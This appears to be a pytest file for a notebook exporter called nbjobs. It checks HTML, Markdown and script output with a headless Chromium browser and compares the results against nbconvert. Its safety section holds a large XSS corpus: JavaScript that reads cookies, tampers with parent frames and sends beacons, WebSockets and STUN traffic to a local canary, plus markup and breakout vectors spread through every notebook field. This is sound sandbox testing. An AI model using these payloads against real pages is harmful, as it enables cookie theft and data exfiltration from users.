"""`nbjobs export`, judged by a real browser and by nbconvert."""

import base64
import json
import re
import socket
import subprocess
import threading
from functools import partial
from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import sync_playwright

ROOT = Path(__file__).resolve().parents[2]
NBJOBS = ROOT / "target/debug/nbjobs"
PYTHON = ROOT / ".nbjobs/test-venv/bin/python"
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGP4z8AARAwQCgAf7gP9i18U1AAAAABJRU5ErkJggg=="
)


# -- notebooks -------------------------------------------------------------------------------------------------------


def notebook(*cells, **metadata):
    kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    info = {"name": "python", "file_extension": ".py", "nbconvert_exporter": "python"}
    cells = [{"id": f"cell{index}", **cell} for index, cell in enumerate(cells)]
    metadata = {"kernelspec": kernelspec, "language_info": info, **metadata}
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}


def markdown(source, **more):
    return {"cell_type": "markdown", "metadata": {}, "source": source, **more}


def code(source, *outputs, count=1, **metadata):
    return {
        "cell_type": "code",
        "metadata": metadata,
        "execution_count": count,
        "source": source,
        "outputs": list(outputs),
    }


def display(**data):
    data = {key.replace("__", "/"): value for key, value in data.items()}
    return shown(data)


def shown(data, metadata=None):
    return {"output_type": "display_data", "metadata": metadata or {}, "data": data}


def stream(text, name="stdout"):
    return {"output_type": "stream", "name": name, "text": text}


def export(folder, content, *arguments):
    source = folder / "notebook.ipynb"
    source.write_text(json.dumps(content))
    subprocess.run([NBJOBS, "export", source, *arguments], check=True)
    return folder


# -- servers and browser ---------------------------------------------------------------------------------------------


class Canary:
    """Something on the network: knows whether anybody called."""

    def __init__(self):
        calls = self.calls = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                calls.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *_):
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.http.server_port}"
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.setblocking(False)
        self.stun = f"stun:127.0.0.1:{self.udp.getsockname()[1]}"
        threading.Thread(target=self.http.serve_forever, daemon=True).start()

    def packets(self):
        try:
            return [self.udp.recv(2048)]
        except BlockingIOError:
            return []

    def close(self):
        self.http.shutdown()
        self.http.server_close()
        self.udp.close()


@pytest.fixture
def canary():
    canary = Canary()
    yield canary
    canary.close()


@pytest.fixture
def site(tmp_path):
    """A server of the test's folder, with a cookie to steal: the page's origin."""

    class Handler(SimpleHTTPRequestHandler):
        def end_headers(self):
            self.send_header("Set-Cookie", "secret=1")
            super().end_headers()

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Handler, directory=tmp_path))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def browser():
    flags = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
    flags += ["--disable-component-update", "--disable-sync"]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=flags)
        yield browser
        browser.close()


def opened(browser, url, **options):
    """The page, its frames loaded and their scripts run."""
    page = browser.new_page(**options)
    page.asked, page.blocked, page.said = [], [], []
    page.on("requestfailed", lambda request: page.blocked.append(request.url) if request.failure == "csp" else None)
    page.on("console", lambda message: page.said.append(message.text) if message.text.startswith("attack ") else None)
    page.on("request", lambda request: page.asked.append(request.url))
    page.goto(url)
    for frame in page.locator("iframe").all():
        frame.scroll_into_view_if_needed()
        frame.element_handle().content_frame().wait_for_load_state("load")
    return page


# -- safety ----------------------------------------------------------------------------------------------------------

# Says where it runs, then tries to reach everything else.
ATTACK = """
console.log(`attack began in ${self.origin}`);
const reach = (name, take) => { try { const got = take(); if (got) console.log(`attack got ${name}: ${got}`); } catch {} };
reach("cookie", () => document.cookie);
reach("parent", () => { parent.document.documentElement.dataset.pwned = "parent"; return parent !== window; });
reach("top", () => { top.document.title = "pwned"; return top !== window; });
reach("storage", () => localStorage && "localStorage");
reach("opened", () => open("CANARY/open"));
reach("navigated", () => { top.location = "CANARY/top"; });
reach("prompted", () => prompt("password?"));
fetch("CANARY/fetch", {mode: "no-cors"}).catch(() => {});
navigator.sendBeacon("CANARY/beacon");
new Image().src = "CANARY/image";
reach("socket", () => { new WebSocket("CANARY/socket".replace("http", "ws")); });
reach("events", () => { new EventSource("CANARY/events"); });
reach("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('CANARY/worker')"]))); });
reach("peer", () => {
  const peer = new RTCPeerConnection({iceServers: [{urls: "STUN"}]});
  peer.createDataChannel("x");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
});
for (const [tag, attribute] of [["script", "src"], ["iframe", "src"], ["link", "href"], ["embed", "src"], ["object", "data"]]) {
  const element = document.createElement(tag);
  if (tag === "link") element.rel = "stylesheet";
  element[attribute] = `CANARY/${tag}`;
  document.documentElement.append(element);
}
const style = document.createElement("style");
style.textContent = "@import 'CANARY/import'; html { background: url(CANARY/background) }";
document.documentElement.append(style);
const form = document.createElement("form");
form.action = "CANARY/form";
document.documentElement.append(form);
reach("submitted", () => { form.submit(); });
parent.postMessage({nbjobsFrameHeight: 1e9, pwned: true}, "*");
parent.postMessage({nbjobsFrameHeight: "1px; position: fixed"}, "*");
setTimeout(() => { console.log(`attack ended in ${self.origin}`); location = "CANARY/location"; });
"""
# Runs where markup can run something.
MARKUP = """<script>ATTACK</script><img src=x onerror="ATTACK"><svg onload="ATTACK"><script>ATTACK</script></svg>
<iframe srcdoc="<script>ATTACK</script>"></iframe><iframe src="javascript:ATTACK"></iframe>
<a href="javascript:ATTACK" id="link">link</a><form action="javascript:ATTACK"><button id="button">go</button></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ATTACK&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=ATTACK>"></noscript><base href="CANARY/base/">
<meta http-equiv="refresh" content="0;url=CANARY/refresh"><link rel="stylesheet" href="CANARY/style">
<link rel="preload" as="image" href="CANARY/preload"><input autofocus onfocus="ATTACK"><details open ontoggle="ATTACK"></details>
<style>@import "CANARY/css"; body { background: url(CANARY/body) }</style><div style="background: url(CANARY/div)">x</div>
<video poster="CANARY/poster" src="CANARY/video" onerror="ATTACK"></video><object data="CANARY/object"></object>
<template shadowrootmode="open"><script>ATTACK</script></template><img src="CANARY/img"><img srcset="CANARY/srcset">"""


def hostile(canary):
    def armed(text):
        attack = ATTACK.replace("CANARY", canary.url).replace("STUN", canary.stun)
        quoted = attack.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;").replace(">", "&gt;")
        text = re.sub(r'(?<==")((?:javascript:)?)ATTACK(?=")', lambda match: match[1] + quoted, text)
        return text.replace("ATTACK", attack).replace("CANARY", canary.url)

    script = armed("ATTACK")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="x()"><script><![CDATA[{script}]]></script><image href="{canary.url}/svg"/></svg>'
    page = f"<!doctype html>{armed(MARKUP)}"
    breakouts = ['"><script>', "</pre></code></details><script>", "</style><script>", "</title><script>", "--><script>"]
    breakout = "".join(f"{start}{script}</script>" for start in breakouts)
    mimes = ["text/html", "text/markdown", "text/plain", "text/latex", "image/svg+xml", "application/javascript"]
    mimes += ["image/png", "image/jpeg", "application/json", "application/vnd.plotly.v1+json", "text/unknown"]
    mimes += ["application/vnd.vegalite.v5+json", "application/vnd.jupyter.widget-view+json", "video/mp4"]
    payloads = [page, script, svg, breakout, f"<style>x</style>{breakout}", f"${breakout}$", f"\\operatorname{{{breakout}}}"]
    cells = [markdown(text) for text in (page, breakout, f"![x](javascript:{script})", f"```{breakout}\n{breakout}\n```")]
    cells += [
        markdown(f"# {breakout}\n\n[x](javascript:alert) ![]({canary.url}/remote.png) <{canary.url}>"),
        markdown(f"$\\operatorname{{{breakout}}}$ $$\\text{{{breakout}}}$$ \\begin{{align}}{breakout}\\end{{align}}"),
        markdown("![a](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": svg}}),
        markdown("![a](attachment:a)", attachments={"a": {'image/png"><script>': "x"}}),
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": page},
        {"cell_type": "raw", "metadata": {}, "source": page},
        {"cell_type": breakout, "metadata": {}, "source": page},
        code(breakout, stream(breakout), stream(f"\x1b[31m{breakout}\x1b]8;;javascript:x\x07", "stderr")),
        code("%%html\n" + page, {"output_type": "error", "ename": page, "evalue": page, "traceback": []}),
        code("", {"output_type": "error", "ename": "", "evalue": "", "traceback": [page, breakout]}),
        code("", {"output_type": breakout}),
        code("", *[shown({mime: payload}) for mime in mimes for payload in payloads]),
        code("", *[shown({mime: {breakout: [page, {"name": breakout}], "data": [{"name": page, "type": script}]}}) for mime in mimes]),
        code("", shown({breakout: page}), shown({"image/png": PNG}, {"image/png": {"width": breakout, "height": '1" onload="x'}})),
    ]
    for tag in ("parameters", "papermill-error-cell-tag", "hide-input", breakout):
        cells.append({**markdown(page), "metadata": {"tags": [tag]}})
    papermill = {"start_time": breakout, "end_time": page, "exception": True, "parameters": {breakout: page}}
    kernelspec = {"name": breakout, "display_name": page, "language": breakout}
    content = notebook(*cells, papermill=papermill, title=breakout)
    content["metadata"]["kernelspec"] = kernelspec
    content["metadata"]["language_info"] = {"name": breakout, "version": page}
    return content, armed


def test_nothing_hostile_runs_in_the_pages_origin_or_reaches_the_network(browser, site, canary, tmp_path):
    content, _ = hostile(canary)
    export(tmp_path, content, "--to", "html", "-o", tmp_path / "page.html")
    page = opened(browser, f"{site}/page.html")
    # The attack runs in the frames, or else this test would see nothing, and gets nothing there.
    while page.said.count("attack ended in null") < 3:
        page.wait_for_event("console")
    assert set(page.said) == {"attack began in null", "attack ended in null"}
    # Things to click on do nothing either.
    page.evaluate("for (const link of document.querySelectorAll('a[href^=javascript], button')) link.click()")
    assert set(page.said) == {"attack began in null", "attack ended in null"}
    assert page.evaluate("document.documentElement.dataset.pwned") is None
    assert page.url == f"{site}/page.html"
    own = page.evaluate("[...document.scripts].map((script) => script.nonce !== '' && script.parentNode === document.head)")
    assert own == [True]
    assert page.evaluate("document.querySelectorAll('main [onclick], main [onerror], main [onload], main object, main embed, main base, main meta, main link, main form').length") == 0
    heights = page.evaluate("[...document.querySelectorAll('iframe')].map((frame) => frame.clientHeight)")
    assert max(heights) <= 4000
    own = (f"{site}/page.html", f"{site}/favicon.ico", "data:", "blob:", "about:")
    assert {url for url in page.asked if not url.startswith(own)} <= set(page.blocked)
    assert page.context.pages == [page]
    assert canary.calls == [] and canary.packets() == []
    page.close()


def test_the_same_attack_succeeds_without_protection(browser, site, canary, tmp_path):
    """Shows that the test above would notice."""
    _, armed = hostile(canary)
    (tmp_path / "page.html").write_text("<!doctype html><title>x</title>" + armed("<img src=x onerror=\"ATTACK\">"))
    page = browser.new_page()
    page.on("dialog", lambda dialog: dialog.accept("x"))
    with page.expect_request(re.compile(re.escape(canary.url))):
        page.goto(f"{site}/page.html", wait_until="commit")
    page.close()
    assert canary.calls


# -- what readers see --------------------------------------------------------------------------------------------------


@pytest.fixture
def page(browser, site, tmp_path):
    pages = []

    def show(*cells, scheme="light", width=1000, arguments=(), **metadata):
        export(tmp_path, notebook(*cells, **metadata), "--to", "html", "-o", tmp_path / "page.html", *arguments)
        pages.append(opened(browser, f"{site}/page.html", color_scheme=scheme, viewport={"width": width, "height": 800}))
        return pages[-1]

    yield show
    for page in pages:
        page.close()


def test_outputs_are_shown(page):
    styled = "<style>#T_1 td { color: rgb(1, 2, 3) }</style><table id='T_1'><tr><td>styled</td></tr></table>"
    shows = page(
        markdown("$x^2$ and **bold**"),
        code("1", shown({"image/png": PNG, "text/plain": "<Figure>"}, {"image/png": {"width": 64, "height": 48}})),
        code("2", display(text__html="<table class='dataframe'><tr><td>plain</td></tr></table>")),
        code("3", display(text__html=styled), display(text__html="<p id=p></p><script>p.textContent = 'ran'</script>")),
        code("4", display(application__javascript="element.textContent = 'written'")),
        code("5", shown({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' width='30' height='20'/>"})),
        code("6", stream("10%\r100%\n"), stream("oops", "stderr")),
    )
    assert shows.locator("math msup").count() == 1
    assert shows.locator("img[alt=Figure]").bounding_box()["width"] == 64
    assert shows.locator("td", has_text="styled").evaluate("cell => getComputedStyle(cell).color") == "rgb(1, 2, 3)"
    # The output's own style sheet stays with it.
    assert shows.locator("td", has_text="plain").evaluate("cell => getComputedStyle(cell).color") != "rgb(1, 2, 3)"
    assert [frame.locator("body").inner_text().strip() for frame in shows.frames[1:]] == ["ran", "written"]
    assert all(frame.bounding_box()["height"] < 100 for frame in shows.locator("iframe").all())
    svg = shows.locator("img[src^='data:image/svg']")
    assert (svg.evaluate("image => [image.naturalWidth, image.naturalHeight]")) == [30, 20]
    assert shows.locator("pre.nb-text").first.inner_text() == "100%\n"
    assert shows.locator("pre.nb-stderr").inner_text() == "oops"


def test_code_is_left_out_or_collapsed(page):
    cells = [code("secret = 1", stream("shown")), code("hidden = 2", stream("also"), jupyter={"source_hidden": True})]
    shows = page(*cells)
    assert shows.locator("pre.nb-source").count() == 2
    assert shows.get_by_text("hidden").is_hidden()
    shows.get_by_text("Show code").click()
    assert shows.get_by_text("hidden").is_visible()
    without = page(*cells, arguments=["--no-input"])
    assert without.locator("pre.nb-source").count() == 0
    assert without.get_by_text("also").is_visible()


@pytest.mark.parametrize("width", [360, 1000])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_width_and_scheme_is_readable(page, scheme, width):
    wide = "x = " + " + ".join("123456789" for _ in range(60))
    shows = page(markdown(f"# Title\n\n{'long' * 100}\n\n`{wide}`"), code(wide, stream(wide)), scheme=scheme, width=width)
    assert shows.evaluate("document.documentElement.scrollWidth") == width
    background, text = shows.evaluate("[document.documentElement, document.body].map((e, i) => getComputedStyle(e)[i ? 'color' : 'backgroundColor'])")
    lightness = [sum(map(int, re.findall(r"\d+", color)[:3])) for color in (background, text)]
    assert abs(lightness[0] - lightness[1]) > 400
    assert (lightness[0] > lightness[1]) == (scheme == "light")


def test_a_failed_run_says_so_on_top_and_at_the_cell(page, tmp_path):
    (tmp_path / "in.ipynb").write_text(json.dumps(notebook(code("n = 1", tags=["parameters"]), code("1 / 0"), code("2"))))
    run = [PYTHON, "-m", "papermill", "in.ipynb", "out.ipynb", "-p", "n", "5", "--no-progress-bar"]
    assert subprocess.run(run, cwd=tmp_path, capture_output=True).returncode == 1
    ran = json.loads((tmp_path / "out.ipynb").read_text())
    shows = page(*[{k: v for k, v in cell.items() if k != "id"} for cell in ran["cells"]], **ran["metadata"])
    assert shows.locator(".nb-failure").inner_text() == "Failed"
    assert shows.locator(".nb-parameters").inner_text().split() == ["n", "5"]
    assert shows.locator(".nb-banner").count() == 2
    shows.locator(".nb-banner a").click()
    assert shows.url.endswith("#papermill-error-cell")
    assert "ZeroDivisionError" in shows.locator(".nb-failed .nb-error").inner_text()
    assert shows.locator(".nb-pending").inner_text() == "Not run"


# -- Markdown and scripts, beside nbconvert ------------------------------------------------------------------------------

MIXED = notebook(
    markdown("# T\n\ntext \n"),
    code("%matplotlib inline\nx = 1  \n!ls -l {x}\nif x:\n    %cd ..\n    !echo \"a'b\"\ny = !ls\nlen?\nz = (1\n  %x)\n", count=3),
    code("%%bash -e\necho 'x'", count=None),
    code(
        "def f():\n    return 1",
        stream("a\nb\n"),
        {"output_type": "execute_result", "execution_count": 4, "metadata": {}, "data": {"text/plain": "1\n2"}},
        shown({"text/html": "<b>x</b>", "text/plain": "x"}),
        shown({"image/png": PNG, "text/plain": "x"}),
        shown({"image/svg+xml": "<svg/>", "text/plain": "x"}),
        {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["\x1b[31mE\x1b[0m: v", "l2"]},
        shown({"text/latex": "$x$", "text/plain": "x"}),
        shown({"text/markdown": "**x**", "text/plain": "x"}),
        stream("err", "stderr"),
    ),
    markdown("end"),
)


def nbconvert(folder, form):
    run = [PYTHON, "-m", "nbconvert", "--to", form, folder / "notebook.ipynb", "--output", "theirs", "--log-level", "ERROR"]
    subprocess.run(run, check=True)


def test_scripts_are_nbconverts(tmp_path):
    export(tmp_path, MIXED, "--to", "py")
    nbconvert(tmp_path, "python")
    assert (tmp_path / "notebook.py").read_text() == (tmp_path / "theirs.py").read_text()


def test_markdown_is_nbconverts_but_for_empty_lines_and_names_of_images(tmp_path):
    export(tmp_path, MIXED, "--to", "md")
    nbconvert(tmp_path, "markdown")

    def lines(name):
        text = (tmp_path / name).read_text()
        text = re.sub(r"\]\(.*_(\d+_\d+)\.(png|svg)\)", r"](\1.\2)", text).replace("```bash", "```python")
        return [line.rstrip() for line in text.splitlines() if line.strip()]

    assert lines("notebook.md") == lines("theirs.md")
    assert (tmp_path / "notebook_files/output_3_3.png").read_bytes() == base64.b64decode(PNG)


def test_a_big_notebook_is_exported(tmp_path):
    figure = base64.b64encode(bytes(range(256)) * 600).decode()
    table = "<table>" + "".join(f"<tr><td>{n}</td><td>{n * n}</td></tr>" for n in range(200)) + "</table>"
    cells = [code(f"x = {n}  # comment\n", shown({"image/png": figure}), shown({"text/html": table}), stream("line\n" * 500)) for n in range(200)]
    folder = export(tmp_path, notebook(*cells), "--to", "html")
    assert (folder / "notebook.ipynb").stat().st_size > 40_000_000
    assert (folder / "notebook.html").stat().st_size < 80_000_000
